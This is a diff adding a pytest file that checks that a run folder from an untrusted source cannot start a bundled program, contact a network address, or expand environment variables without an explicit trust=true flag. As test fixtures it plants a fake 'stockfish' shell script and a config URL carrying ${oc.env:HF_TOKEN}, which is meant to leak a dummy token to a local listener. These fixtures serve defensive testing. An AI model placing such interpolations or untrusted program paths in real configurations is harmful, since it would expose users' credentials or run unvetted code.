@@ -1,0 +1,143 @@
+"""A run's folder that comes from a stranger starts no program, calls no address and reads no environment."""
+
+import os
+import shutil
+import threading
+from collections.abc import Callable, Iterator
+from dataclasses import fields
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+import torch
+from omegaconf import OmegaConf
+
+from rookworld_rlvr.app.cli import main
+from rookworld_rlvr.model.batch import Batch
+from rookworld_rlvr.training.diagnosis import FAULT_KEYS, FAULTS
+
+SECRET = "hf_s3cr3t"
+
+
+@pytest.fixture(scope="module")
+def finished(train_once: Callable[..., Path]) -> Path:
+    return train_once("steps=2", "rollouts_every=1", "evaluation_rows=0")
+
+
+@pytest.fixture
+def strangers_run(finished: Path, tmp_path: Path) -> Callable[..., Path]:
+    """A copy of a run whose configuration a stranger has changed, with a program beside it that leaves a trace."""
+
+    def make(**changed: object) -> Path:
+        run = tmp_path / "strangers_run"
+        shutil.copytree(finished, run, symlinks=True)
+        program = run / "stockfish"
+        program.write_text(f"#!/bin/sh\ntouch {run}/started\n")
+        program.chmod(0o755)
+        config = OmegaConf.load(run / "config.yaml")
+        for key, value in changed.items():
+            OmegaConf.update(config, key.replace("__", "."), value)
+        (run / "config.yaml").write_text(OmegaConf.to_yaml(config).replace("HERE", str(run)))
+        return run
+
+    return make
+
+
+@pytest.fixture
+def requests_heard() -> Iterator[tuple[str, list[str]]]:
+    """An address of the stranger's, and the paths that were requested there."""
+    paths: list[str] = []
+
+    class Listener(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            paths.append(self.path)
+            self.send_error(404)
+
+        do_POST = do_GET
+
+        def log_message(self, *_: object) -> None:
+            return
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", paths
+        server.shutdown()
+
+
+def refusal(arguments: list[str], capfd: pytest.CaptureFixture[str]) -> str:
+    """The one line that refuses the command, with exit code 2."""
+    capfd.readouterr()
+    code, error = main(arguments), capfd.readouterr().err
+    assert (code, error.count("\n")) == (2, 1), error
+    return error
+
+
+@pytest.mark.parametrize("command", ["rescore {run}", "train resume={run} steps=4", "smoke resume={run}"])
+def test_a_strangers_program_is_started_only_if_it_is_trusted(
+    command: str, strangers_run: Callable[..., Path], capfd: pytest.CaptureFixture[str]
+) -> None:
+    run = strangers_run(rubric__source="engine", rubric__stockfish__path="HERE/stockfish")
+    arguments = command.format(run=run).split()
+    error = refusal(arguments, capfd)
+    assert f"sets rubric.stockfish.path to '{run}/stockfish'" in error and "trust=true" in error
+    assert not (run / "started").exists()
+    # It is no engine, so it is refused as one, but it was started.
+    refusal([*arguments, "trust=true"], capfd)
+    assert (run / "started").exists()
+
+
+def test_a_run_that_says_it_is_trusted_is_not(
+    strangers_run: Callable[..., Path], capfd: pytest.CaptureFixture[str]
+) -> None:
+    run = strangers_run(trust=True, rubric__source="engine", rubric__stockfish__path="HERE/stockfish")
+    assert "trust=true" in refusal(["rescore", str(run)], capfd)
+    assert not (run / "started").exists()
+
+
+def test_a_strangers_address_is_called_only_if_it_is_trusted(
+    strangers_run: Callable[..., Path],
+    requests_heard: tuple[str, list[str]],
+    capfd: pytest.CaptureFixture[str],
+) -> None:
+    address, heard = requests_heard
+    server = {"generator__kind": "vllm_server", "generator__vllm__urls": [address], "generator__vllm__retries": 0}
+    resume = ["train", f"resume={strangers_run(**server)}", "steps=4"]
+    assert f"sets generator.vllm.urls to ['{address}']" in refusal(resume, capfd) and not heard
+    assert main([*resume, "trust=true"]) != 0 and heard
+
+
+def saved_fault(run: Path) -> Path:
+    """A file of a fault in the run's folder, as `inspect` reads it."""
+    tensors = {field.name: torch.zeros(1, 2) for field in fields(Batch)}
+    saved = dict.fromkeys(FAULT_KEYS) | {"step": 1, "fault": dict.fromkeys(("kind", "tensor", "detail"), "")}
+    path = run / FAULTS / "step-1.pt"
+    path.parent.mkdir()
+    torch.save(saved | {"samples": [], "batch": tensors}, path)
+    return path
+
+
+@pytest.mark.parametrize("command", ["train resume={run} trust=true", "rescore {run} trust=true", "inspect {batch}"])
+def test_a_strangers_interpolation_is_never_resolved(
+    command: str,
+    strangers_run: Callable[..., Path],
+    requests_heard: tuple[str, list[str]],
+    capfd: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    address, heard = requests_heard
+    monkeypatch.setenv("HF_TOKEN", SECRET)
+    urls = [f"{address}/${{oc.env:HF_TOKEN}}"]
+    run = strangers_run(generator__kind="vllm_server", generator__vllm__urls=urls, model__path="a/${oc.env:HF_TOKEN}")
+    batch = saved_fault(run)
+    error = refusal(command.format(run=run, batch=batch).split(), capfd)
+    assert "got an interpolation: 'path: a/${oc.env:HF_TOKEN}'" in error
+    assert SECRET not in error and not heard and os.environ["HF_TOKEN"] == SECRET
+
+
+def test_an_option_that_the_user_gives_is_no_strangers(
+    strangers_run: Callable[..., Path], capfd: pytest.CaptureFixture[str]
+) -> None:
+    run = strangers_run(rubric__stockfish__path="HERE/stockfish")
+    assert "trust=true" in refusal(["rescore", str(run)], capfd)
+    assert main(["rescore", str(run), "rubric.stockfish.path=''"]) == 0
+    assert main(["rescore", str(run), f"rubric.stockfish.path={run}/stockfish"]) == 0
